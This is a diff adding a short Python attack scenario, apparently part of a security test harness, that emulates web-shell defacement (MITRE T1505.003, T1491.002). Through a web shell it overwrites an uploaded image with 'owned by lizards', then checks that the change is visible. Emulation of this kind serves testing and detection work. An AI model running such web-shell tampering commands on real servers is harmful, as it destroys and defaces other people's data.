@@ -1,0 +1,13 @@
+#!/usr/bin/python3 -B
+"""Tampering with files: a web shell writes over a picture that everybody sees (T1491.002)."""
+
+from attack import Attack
+
+
+def run(attack: Attack) -> bool:
+    attack.media("cp /srv/uploads/7.jpg /tmp/7.jpg; printf 'GIF89a owned by lizards' >/srv/uploads/7.jpg", "lizard-2.php")
+    seen = attack.visit("GET", "/media/image?name=7.jpg")[1]
+    return attack.prove("owned by lizards" in seen, seen=seen)
+
+
+Attack("T1505.003, T1491.002", ["edge", "media"], ["/srv/uploads/7.jpg"]).main(run)
